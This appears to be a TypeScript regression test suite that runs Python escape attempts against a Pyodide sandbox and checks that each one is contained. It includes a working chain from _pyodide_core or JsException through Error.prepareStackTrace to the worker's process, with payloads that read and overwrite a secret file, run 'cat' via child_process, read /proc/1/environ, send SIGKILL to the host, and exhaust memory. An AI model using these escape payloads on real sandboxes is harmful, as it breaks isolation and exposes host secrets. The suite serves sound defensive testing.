// Attacks on the Python executor (Pyodide in a locked-down sandbox host process). The Python
// engineer's own escape suite (test/python/escape-suite.ts, run by escapes.test.ts) already covers,
// with the same kind of canaries: open() of host files, os.listdir, os.environ, os.system/popen,
// subprocess, posix.* kept by reference, socket connect and listen, js.fetch, pyodide.http.pyfetch,
// pyodide.code.run_js, pyodide_js.mountNodeFS, pyodide.ffi, JS objects left in sys.modules or
// module globals, JS Function from any JsProxy, ctypes, _imp.create_builtin/create_dynamic,
// sys.meta_path surgery, code objects from bytes, gc introspection, files/builtins/random left
// between calls; test/python/limits.test.ts covers loops, swallowed KeyboardInterrupt, time.sleep,
// 10**10**8, memory, raised recursion limits, json.loads bombs, file and pipe quotas, output. The
// attacks here fill the gaps the issue lists (_pyodide_core, __import__ hooks, frames, more routes
// to files and the network, signals, asyncio, exits, huge numbers) and, like every family, check
// the canaries and the whole server after each one.

import { expect } from 'vitest';
import { evaluateAttack } from '../attack-builders.js';
import type { Attack } from '../harness.js';

const py = (spec: Omit<Parameters<typeof evaluateAttack>[0], 'language'>): Attack =>
  evaluateAttack({ language: 'python', fn: 'f', ...spec });

/** The route to the JS bridge found while writing these tests (reported, see docs/security.md). */
const REACH_JS_GLOBAL = `
import importlib
def reach_js_global():
    core = importlib._bootstrap._load(importlib.machinery.BuiltinImporter.find_spec('_pyodide_core'))
    arr = core.to_js([1])
    try:
        arr.constructor.constructor.prototype.call.call(None)
    except BaseException as e:
        js_error = e.js_error
    Object = core.to_js({}).constructor
    Error = Object.getPrototypeOf(js_error.constructor)
    found = []
    def prepare(error, callsites):
        for site in callsites:
            this = site.getThis()
            if this is not None and 'global' in repr(this):
                found.append(this)
        return 'x'
    Error.prepareStackTrace = core.create_proxy(prepare)
    try:
        arr.constructor.constructor.prototype.call.call(None)
    except BaseException as e:
        str(e.js_error.stack)
    return found[0], Object
`;

/** Finds a class by name among every subclass of object: the C types of the bridge stay alive. */
const FIND_TYPE = `
def find_type(name):
    seen = set(); stack = [object]
    while stack:
        c = stack.pop()
        try:
            subs = type.__subclasses__(c)
        except TypeError:
            continue
        for s in subs:
            if s not in seen:
                seen.add(s); stack.append(s)
                if s.__name__ == name:
                    return s
    raise LookupError(name)
`;

/**
 * The route of the outside attack run (issue 13): JsException("Error", "m").constructor is JS's
 * Error; a Python function as Error.prepareStackTrace receives CallSites, whose getThis() in a
 * sloppy frame of the glue is the worker's globalThis. Checked on the code before the import gate:
 * it reached process and process.getBuiltinModule (v8 answered; fs was refused by layer 2).
 */
const JSEXCEPTION_TO_GLOBAL = `${FIND_TYPE}
def reach_js_global():
    JsException = find_type('JsException')
    Error = JsException('Error', 'm').constructor
    found = []
    def prepare(error, sites):
        for site in sites:
            this = site.getThis()
            if found == [] and repr(this) == '[object global]':
                found.append(this)
        return 'x'
    Error.prepareStackTrace = prepare
    str(Error.new('provoke').stack)
    return found[0]
`;

/** What a closed door answers: the call fails with SANDBOX_CRASH naming the import. */
function closedDoor(door: string): (body: any) => void {
  return (body) => {
    expect(body.ok, JSON.stringify(body).slice(0, 300)).toBe(false);
    expect(body.error.code).toBe('SANDBOX_CRASH');
    expect(body.error.message).toContain(
      `called "${door}", a JavaScript import that is closed in this sandbox`,
    );
  };
}

export const PYTHON_ATTACKS: readonly Attack[] = [
  // The outside attack run's route (issue 13), through the C types that removing modules left
  // alive. Closed at the import table: every import of pyodide.asm.wasm that is not a door
  // (interpreters/python/doors.ts) traps once the interpreter has booted.
  py({
    id: 'py-jsexception-to-process',
    title:
      'object.__subclasses__() → JsException("Error", "m").constructor → Error.prepareStackTrace → CallSite.getThis() → globalThis.process',
    result: 'SANDBOX_CRASH at the first closed import (JsException_new_helper); the interpreter is discarded',
    finding:
      "Pyodide's JS FFI stayed callable from its C types after _pyodide_core was removed: the worker's globalThis, process and process.getBuiltinModule (v8 answered); fixed by closing every import that is not a door once the interpreter has booted",
    code: `${JSEXCEPTION_TO_GLOBAL}
def f():
    out = {}
    def t(name, fn):
        try:
            out[name] = repr(fn())[:200]
        except BaseException as e:
            out[name] = 'refused: ' + type(e).__name__ + ': ' + str(e)[:150]
    g = reach_js_global()
    p = g.process
    t('pid', lambda: p.pid)
    get = p.getBuiltinModule
    t('v8', lambda: get('v8').getHeapStatistics().total_heap_size)
    t('fs', lambda: get('fs').readFileSync('{{SECRET_FILE}}', 'utf8'))
    t('child_process', lambda: get('child_process').execSync('cat {{SECRET_FILE}}'))
    return out
`,
    limits: { timeoutMs: 10_000 },
    check: closedDoor('JsException_new_helper'),
  }),
  // Siblings: other bridge functions reachable without any module (the Python classes of Pyodide's
  // asyncio loop hold _pyodide_core's functions), the guest catching the trap and carrying on, the
  // trap inside a finalizer and a generator run while the result is read, and a JsProxy method
  // applied by hand. Each call fails with the typed error; the next call is clean.
  {
    id: 'py-ffi-doors',
    title:
      'the bridge by other doors: WebLoop.call_soon (create_once_callable), a loop from WebLoopPolicy, a trap caught and ignored, in __del__, in a result generator, JsProxy methods',
    result: 'SANDBOX_CRASH naming the closed import every time, whatever the guest does after the throw',
    async run(h) {
      // [door, code, codec]: the "zobject" codec iterates a returned generator (user code runs then).
      const cases: [string, string, string?][] = [
        [
          'create_once_callable',
          `${FIND_TYPE}
def f():
    find_type('WebLoop')().call_soon(print)
    return 'ran'
`,
        ],
        [
          'create_once_callable',
          `${FIND_TYPE}
def f():
    loop = find_type('WebLoopPolicy')().new_event_loop()
    loop.call_later(0.01, print, 'x')
    return 'ran'
`,
        ],
        [
          'JsException_new_helper',
          `${FIND_TYPE}
def f():
    for _ in range(3):
        try:
            find_type('JsException')('Error', 'm')
        except BaseException:
            pass
    return 'survived'
`,
        ],
        [
          'JsException_new_helper',
          `${FIND_TYPE}
class Bomb:
    def __del__(self):
        try:
            find_type('JsException')('Error', 'in a finalizer')
        except BaseException:
            pass
def f():
    Bomb()
    return 'survived'
`,
        ],
        [
          'JsException_new_helper',
          `${FIND_TYPE}
def f():
    def gen():
        yield 1
        find_type('JsException')('Error', 'while the result is read')
    return gen()
`,
          'zobject',
        ],
        [
          'JsException_new_helper',
          `${FIND_TYPE}
def f():
    e = find_type('JsException')('TypeError', 'm')
    return [find_type('JsProxy').object_keys(e), e.to_py(), dir(e)]
`,
        ],
      ];
      for (const [door, code, codec] of cases) {
        const answer = await h.evaluate('python', code, {
          fn: 'f',
          limits: { timeoutMs: 10_000 },
          ...(codec === undefined ? {} : { codec }),
        });
        expect(answer.status).toBe(200);
        closedDoor(door)(answer.body);
        const next = await h.evaluate('python', 'def f():\n    return 1 + 1\n', { fn: 'f' });
        expect(next.body).toMatchObject({ ok: true, value: 2 });
      }
    },
  },
  // Found here (reported to the Python executor's owner, not fixed in this change): the import
  // blocker and the audit hook see imports that go through _find_spec; importlib._bootstrap._load
  // with a spec from BuiltinImporter skips both and loads _pyodide_core. Its to_js/create_proxy
  // give JsProxy objects; a JS exception's constructor chain gives Error, and a Python function as
  // Error.prepareStackTrace gets CallSite.getThis() = the worker's globalThis, then process and
  // process.getBuiltinModule. Layer 2 holds: the permission model refuses fs and child_process,
  // the environment is empty, the PID namespace shows pid 1 and the network namespace has no route.
  py({
    id: 'py-pyodide-core-to-process',
    title:
      '_pyodide_core via importlib._bootstrap._load → JsProxy → Error.prepareStackTrace → globalThis.process',
    result: 'layer 1 holds: _pyodide_core is no builtin any more (find_spec gives None)',
    finding:
      'the Python lockdown let a second _pyodide_core load through importlib._bootstrap._load (no import audit event); fixed by removing it from the inittab after boot',
    code: `${REACH_JS_GLOBAL}
def f():
    out = {}
    def t(name, fn):
        try:
            out[name] = repr(fn())[:200]
        except BaseException as e:
            out[name] = 'refused: ' + type(e).__name__ + ': ' + str(e)[:150]
    if importlib.machinery.BuiltinImporter.find_spec('_pyodide_core') is None:
        return {'layer1': 'held: find_spec gives None'}
    try:
        g, Object = reach_js_global()
    except BaseException as e:
        return {'layer1': 'held: ' + type(e).__name__ + ': ' + str(e)[:150]}
    out['layer1'] = 'bypassed'
    p = g.process
    t('env', lambda: list(Object.keys(p.env)))
    t('pid', lambda: p.pid)
    get = p.getBuiltinModule
    t('fs', lambda: get('fs').readFileSync('{{SECRET_FILE}}', 'utf8'))
    t('fs_write', lambda: get('fs').writeFileSync('{{SECRET_FILE}}', 'pwned'))
    t('child_process', lambda: get('child_process').execSync('cat {{SECRET_FILE}}'))
    return out
`,
    limits: { timeoutMs: 10_000 },
    // The regression test of the fix: layer 1 holds, exactly (no second _pyodide_core to load).
    // Were it to give way, the answer shows what layer 2 did with each capability (and the harness
    // still checks the canaries), but this test fails: the finding is back.
    // mutation: "_pyodide_core" dropped from INITTAB_REMOVED (interpreters/python/harness.py).
    check: (body, text) => {
      expect(body, text.slice(0, 800)).toMatchObject({
        ok: true,
        value: { layer1: 'held: find_spec gives None' },
      });
      expect(Object.keys(body.value)).toEqual(['layer1']);
    },
  }),
  // The same route, then the network: net.connect to the loopback listener.
  py({
    id: 'py-pyodide-core-to-network',
    title: 'the _pyodide_core route, then net.connect and http.get to a loopback listener',
    result: 'layer 1 holds (as py-pyodide-core-to-process); no connection either way',
    code: `${REACH_JS_GLOBAL}
def f():
    if importlib.machinery.BuiltinImporter.find_spec('_pyodide_core') is None:
        return 'layer 1 held: find_spec gives None'
    try:
        g, Object = reach_js_global()
    except BaseException as e:
        return 'layer 1 held: ' + type(e).__name__ + ': ' + str(e)[:150]
    get = g.process.getBuiltinModule
    s = get('net').connect({{PORT}}, '127.0.0.1')
    s.on('error', core_noop())
    get('http').get('http://127.0.0.1:{{PORT}}/').on('error', core_noop())
    import time
    time.sleep(0.5)
    return 'sent'
def core_noop():
    import importlib
    core = importlib._bootstrap._load(importlib.machinery.BuiltinImporter.find_spec('_pyodide_core'))
    return core.create_proxy(lambda *a: None)
`,
    limits: { timeoutMs: 10_000 },
    // Layer 1 holds exactly as in py-pyodide-core-to-process; the harness checks that the loopback
    // listener saw no connection whatever the answer.
    // mutation: "_pyodide_core" dropped from INITTAB_REMOVED (interpreters/python/harness.py).
    check: (body, text) => {
      expect(body, text.slice(0, 800)).toMatchObject({
        ok: true,
        value: 'layer 1 held: find_spec gives None',
      });
    },
  }),
  // Every other import route the issue names: a replaced __import__, importlib.import_module,
  // the bootstrap's own functions, a custom finder first on sys.meta_path, sys.modules injection.
  py({
    id: 'py-import-machinery',
    title: '__import__ hook, import_module, _find_and_load, a first meta_path finder, sys.modules games',
    result: 'no js, pyodide_js, pyodide.code or pyodide.ffi module by any route',
    code: `
import sys, builtins, importlib, importlib.util, importlib.machinery
def f():
    got = {}
    names = ['js', 'pyodide_js', 'pyodide.code', 'pyodide.ffi']
    def t(route, fn):
        for name in names:
            try:
                m = fn(name)
                got[route + ':' + name] = type(m).__name__
            except BaseException as e:
                got[route + ':' + name] = 'refused'
    original = builtins.__import__
    builtins.__import__ = lambda name, *a, **k: original(name, *a, **k)
    t('hooked __import__', lambda n: __import__(n))
    builtins.__import__ = original
    t('import_module', importlib.import_module)
    t('_find_and_load', lambda n: importlib._bootstrap._find_and_load(n, importlib._bootstrap._gcd_import))
    t('BuiltinImporter', lambda n: importlib._bootstrap._load(importlib.machinery.BuiltinImporter.find_spec(n)))
    t('FrozenImporter', lambda n: importlib._bootstrap._load(importlib.machinery.FrozenImporter.find_spec(n)))
    class Finder:
        @classmethod
        def find_spec(cls, name, path=None, target=None):
            return importlib.machinery.BuiltinImporter.find_spec(name)
    sys.meta_path.insert(0, Finder)
    t('first finder', importlib.import_module)
    sys.modules.pop('js', None)
    t('sys.modules popped', importlib.import_module)
    return got
`,
    check: (body) => {
      expect(body.ok).toBe(true);
      for (const [route, what] of Object.entries(body.value as Record<string, string>)) {
        expect(what, route).not.toBe('module');
      }
    },
  }),
  // Frames: from the user's function up through the harness, looking for JS objects in any frame's
  // globals or locals.
  py({
    id: 'py-frames',
    title: "sys._getframe() up through the harness's frames, collecting JS objects from globals/locals",
    result: 'no JS object in any frame',
    code: `
import sys
def f():
    found = []
    frame = sys._getframe(0)
    while frame is not None:
        for scope in (frame.f_globals, frame.f_locals):
            for k, v in list(scope.items()):
                if 'Js' in type(v).__name__:
                    found.append(frame.f_code.co_name + '.' + k)
        frame = frame.f_back
    return found
`,
    check: (body) => expect(body).toMatchObject({ ok: true, value: [] }),
  }),
  // Host files by routes the escape suite does not take.
  py({
    id: 'py-host-files-more',
    title: 'os.open, io.FileIO, pathlib, /proc/self/root, os.scandir("/"), mmap on the secret file',
    result: 'nothing of the host: the secret is never read',
    code: `
import os, io, pathlib, mmap
def f():
    out = {}
    def t(name, fn):
        try:
            out[name] = repr(fn())[:120]
        except BaseException as e:
            out[name] = type(e).__name__
    path = '{{SECRET_FILE}}'
    t('os.open', lambda: os.read(os.open(path, os.O_RDONLY), 100))
    t('FileIO', lambda: io.FileIO(path).read())
    t('pathlib', lambda: pathlib.Path(path).read_text())
    t('proc root', lambda: open('/proc/self/root' + path).read())
    t('scandir', lambda: sorted(e.name for e in os.scandir('/')))
    t('mmap', lambda: mmap.mmap(os.open(path, os.O_RDONLY), 0, prot=mmap.PROT_READ)[:100])
    t('proc 1 environ', lambda: open('/proc/1/environ', 'rb').read())
    return out
`,
    check: (body) => expect(body.ok).toBe(true),
  }),
  // The network by routes the escape suite does not take.
  py({
    id: 'py-network-more',
    title: 'urllib, http.client, asyncio.open_connection, getaddrinfo to the loopback listener',
    result: 'each refused; the listener sees nothing',
    code: `
import asyncio, socket, urllib.request, http.client
async def f():
    out = {}
    async def t(name, fn):
        try:
            r = fn()
            if asyncio.iscoroutine(r):
                r = await asyncio.wait_for(r, 2)
            out[name] = repr(r)[:120]
        except BaseException as e:
            out[name] = type(e).__name__
    await t('urllib', lambda: urllib.request.urlopen('http://127.0.0.1:{{PORT}}/', timeout=1).read())
    await t('http.client', lambda: http.client.HTTPConnection('127.0.0.1', {{PORT}}, timeout=1).request('GET', '/'))
    await t('asyncio', lambda: asyncio.open_connection('127.0.0.1', {{PORT}}))
    await t('getaddrinfo', lambda: socket.getaddrinfo('localhost', {{PORT}}))
    return out
`,
    limits: { timeoutMs: 10_000 },
    check: (body) => {
      expect(body.ok).toBe(true);
      for (const [route, what] of Object.entries(body.value as Record<string, string>)) {
        expect(what, route).toMatch(/error|exception|refused|timeout/i);
      }
    },
  }),
  // Catching the time limit: ignore SIGINT (Pyodide's interrupt is a signal), then loop.
  py({
    id: 'py-ignore-sigint',
    title: 'signal.signal(SIGINT, SIG_IGN), then an endless loop',
    result: 'TIMEOUT (the worker is terminated from outside)',
    code: 'import signal\ndef f():\n    signal.signal(signal.SIGINT, signal.SIG_IGN)\n    while True:\n        pass\n',
    limits: { timeoutMs: 1000 },
    codes: ['TIMEOUT'],
  }),
  // An async function parked in the event loop: nothing runs, so only the deadline can end it.
  py({
    id: 'py-asyncio-sleep',
    title: 'await asyncio.sleep(100) in an async function',
    result: 'TIMEOUT',
    code: 'import asyncio\nasync def f():\n    await asyncio.sleep(100)\n',
    limits: { timeoutMs: 1000 },
    codes: ['TIMEOUT'],
  }),
  // Ending the interpreter: os._exit and os.abort.
  py({
    id: 'py-exit-abort',
    title: 'os._exit(3) (and os.abort) inside a call',
    result: 'the call fails (RUNTIME_ERROR with exitCode 3); only that interpreter ends',
    code: 'import os\ndef f():\n    os._exit(3)\n',
    codes: ['RUNTIME_ERROR'],
  }),
  // Signals to the host: the parent (the sandbox host), pid 1, itself.
  py({
    id: 'py-kill-host',
    title:
      'os.kill(os.getppid(), SIGKILL), os.kill(1, SIGKILL), os.killpg(0, SIGKILL), signal.raise_signal(SIGKILL)',
    result:
      'each kill refused; raising SIGKILL discards the interpreter (SANDBOX_CRASH); the host keeps serving',
    code: `
import os, signal
def f():
    for name, fn in (('kill-parent', lambda: os.kill(os.getppid(), signal.SIGKILL)),
                     ('kill-1', lambda: os.kill(1, signal.SIGKILL)),
                     ('killpg', lambda: os.killpg(0, signal.SIGKILL))):
        try:
            fn()
            print(name, 'sent')
        except BaseException as e:
            print(name, type(e).__name__ + ':', e)
    signal.raise_signal(signal.SIGKILL)
    return 'survived'
`,
    // The three kills are refused by the lockdown (and its audit hook behind it); raising SIGKILL
    // in the interpreter ends in Emscripten's exit path, whose JavaScript import is closed: the
    // interpreter is discarded, nothing outside it is signalled, and the harness checks that the
    // host keeps serving.
    // mutation: "kill" and "killpg" dropped from lockdown()'s list and "os.kill", "os.killpg" from
    // BLOCKED_EVENTS (interpreters/python/harness.py): the kills reach Emscripten's stubs.
    check: (body, text) => {
      expect(body, text.slice(0, 800)).toMatchObject({
        ok: false,
        error: {
          code: 'SANDBOX_CRASH',
          message:
            'Cannot run "f": the interpreter called "_emscripten_runtime_keepalive_clear", a JavaScript import that is closed in this sandbox; the interpreter was discarded',
        },
        stdout:
          'kill-parent PermissionError: os.kill is not available in this sandbox\n' +
          'kill-1 PermissionError: os.kill is not available in this sandbox\n' +
          'killpg PermissionError: os.killpg is not available in this sandbox\n',
      });
    },
  }),
  // Threads and processes from the standard library.
  py({
    id: 'py-threads-processes',
    title: 'threading, _thread, multiprocessing, concurrent.futures',
    result: 'each refused',
    code: `
def f():
    out = {}
    def t(name, fn):
        try:
            fn()
            out[name] = 'started'
        except BaseException as e:
            out[name] = type(e).__name__
    import threading, _thread
    t('threading', lambda: threading.Thread(target=lambda: None).start())
    t('_thread', lambda: _thread.start_new_thread(lambda: None, ()))
    t('multiprocessing', lambda: __import__('multiprocessing').Process(target=print).start())
    t('futures', lambda: __import__('concurrent.futures').futures.ProcessPoolExecutor().submit(print).result())
    return out
`,
    check: (body) => {
      expect(body.ok).toBe(true);
      expect(Object.values(body.value)).not.toContain('started');
    },
  }),
  // Huge integers (the digit limit lifted) and huge strings.
  py({
    id: 'py-huge-int',
    title: 'sys.set_int_max_str_digits(0); str(10 ** 10 ** 7) (one long C operation)',
    result: 'TIMEOUT',
    code: 'import sys\ndef f():\n    sys.set_int_max_str_digits(0)\n    return len(str(10 ** (10 ** 7)))\n',
    limits: { timeoutMs: 1000 },
    codes: ['TIMEOUT'],
  }),
  // One allocation far past the memory limit, for a string and a bytearray.
  py({
    id: 'py-huge-string',
    title: "'x' * 2 ** 31 and bytearray(2 ** 30)",
    result: 'MEMORY_LIMIT or a clean MemoryError/OverflowError',
    code: "def f():\n    b = bytearray(2 ** 30)\n    return len('x' * 2 ** 31)\n",
    codes: ['MEMORY_LIMIT', 'RUNTIME_ERROR'],
  }),
  // Recursion through C (repr → __repr__) after raising the recursion limit: the native stack must not overflow.
  py({
    id: 'py-recursion-repr',
    title: 'sys.setrecursionlimit(10 ** 6), then __repr__ recursion (C recursion)',
    result: 'RUNTIME_ERROR (RecursionError)',
    code: 'import sys\nsys.setrecursionlimit(10 ** 6)\nclass R:\n    def __repr__(self):\n        return repr(R())\ndef f():\n    return repr(R())\n',
    limits: { timeoutMs: 10_000 },
    codes: ['RUNTIME_ERROR'],
  }),
  // Persistence by routes the escape suite does not take: another module's function, os.environ,
  // the home directory, the working directory.
  {
    id: 'py-persistence-more',
    title: 'patch json.dumps, set os.environ, write ~ and cwd files in one call; look in the next',
    result: 'the next call sees none of it',
    async run(h) {
      const first = await h.evaluate(
        'python',
        `
import json, os
def f():
    json.dumps = lambda *a, **k: 'pwned'
    os.environ['POLYEVAL_LEFT'] = 'behind'
    open(os.path.expanduser('~/left.txt'), 'w').write('behind')
    open('left.txt', 'w').write('behind')
    return 1
`,
        { fn: 'f' },
      );
      expect(first.status).toBe(200);
      const second = await h.evaluate(
        'python',
        `
import json, os
def f():
    return [json.dumps([1]), os.environ.get('POLYEVAL_LEFT'), os.path.exists(os.path.expanduser('~/left.txt')),
            os.path.exists('left.txt')]
`,
        { fn: 'f' },
      );
      expect(second.body).toMatchObject({ ok: true, value: ['[1]', null, false, false] });
    },
  },
  // State left for the next tenant in the worker's JavaScript, which the golden image of memory and
  // files did not cover (reset in place): Emscripten's pipe-name counter, a call's readable trace.
  {
    id: 'py-reset-pipe-counter',
    title:
      'leave a number for the next call in Emscripten\'s pipe-name counter (make N pipes; the next call reads "pipe[N]" from /proc/self/fd)',
    result: 'every call reads the same pipe name: the counter is put back and verified with the golden image',
    finding:
      "the reset did not put back PIPEFS's name counter: one call's pipe count (any number it chose) was readable by the next call on the worker",
    async run(h) {
      const read =
        'import os\ndef f():\n    r, w = os.pipe()\n    return os.readlink(f"/proc/self/fd/{r}")\n';
      const plant = 'import os\ndef f():\n    for _ in range(37):\n        os.pipe()\n    return 1\n';
      const seen: unknown[] = [];
      for (let i = 0; i < 4; i++) {
        const answer = await h.evaluate('python', read, { fn: 'f' });
        expect(answer.body, answer.text.slice(0, 500)).toMatchObject({ ok: true });
        seen.push(answer.body.value);
        expect((await h.evaluate('python', plant, { fn: 'f' })).body).toMatchObject({ ok: true });
      }
      expect(new Set(seen).size, JSON.stringify(seen)).toBe(1);
    },
  },
  // The terminal's line buffer: bytes written to /dev/tty without a newline waited in a JS array,
  // outside every quota, for the next call's newline — and piled up across calls until the worker's
  // JS heap ran out under another tenant's call.
  {
    id: 'py-reset-tty-buffer',
    title: 'write 30 MiB to /dev/tty without a newline in each of 5 calls',
    result: 'each call succeeds and leaves nothing: the terminal drops its output at once',
    finding:
      "/dev/tty buffered an unterminated line in the worker's JS heap, uncounted and never emptied by the reset: a few calls later the whole sandbox host process died (exit code 139), failing every call it served",
    timeoutMs: 120_000,
    async run(h) {
      const code =
        'def f():\n    t = open("/dev/tty", "wb", buffering=0)\n    chunk = b"x" * 2**20\n    for _ in range(30):\n        t.write(chunk)\n    return 1\n';
      for (let i = 0; i < 5; i++) {
        const answer = await h.evaluate('python', code, { fn: 'f', limits: { timeoutMs: 10_000 } });
        expect(answer.body, answer.text.slice(0, 500)).toMatchObject({ ok: true, value: 1 });
      }
    },
  },
  // The worker's JS heap by file-system routes the write quota did not wrap.
  {
    id: 'py-fs-quota-bypass',
    title:
      "fill the worker's JS heap through the in-memory filesystem without FS.write: ftruncate and truncate to 200 MiB; 25,000 symlinks to 4 KB targets; 400,000 empty directories with 200-character names",
    result: 'MEMORY_LIMIT (filesystem write quota) every time; the next call is clean',
    finding:
      'ftruncate and fallocate (FS.doTruncate; the FS.allocate the quota wrapped does not exist in this glue), msync (MEMFS write) and new nodes (symlink targets, empty files and directories) were not charged to the write quota: a call stored hundreds of MB outside its memory limit and the reset threshold',
    timeoutMs: 120_000,
    async run(h) {
      const cases = [
        'import os\ndef f():\n    fd = os.open("/tmp/big", os.O_CREAT | os.O_RDWR)\n    os.ftruncate(fd, 200 * 2**20)\n    return 1\n',
        'import os\ndef f():\n    open("/tmp/big", "w").close()\n    os.truncate("/tmp/big", 200 * 2**20)\n    return 1\n',
        'import os\ndef f():\n    t = "x" * 4000\n    for i in range(25_000):\n        os.symlink(t, f"/tmp/s{i}")\n    return 1\n',
        'import os\ndef f():\n    p = "/tmp/" + "d" * 200\n    for i in range(400_000):\n        os.mkdir(f"{p}{i}")\n    return 1\n',
      ];
      for (const code of cases) {
        const answer = await h.evaluate('python', code, {
          fn: 'f',
          limits: { timeoutMs: 20_000, memoryMb: 64 },
        });
        expect(answer.body, answer.text.slice(0, 500)).toMatchObject({
          ok: false,
          error: { code: 'MEMORY_LIMIT' },
        });
        const next = await h.evaluate('python', 'import os\ndef f():\n    return os.listdir("/tmp")\n', {
          fn: 'f',
        });
        expect(next.body).toMatchObject({ ok: true, value: [] });
      }
    },
  },
];
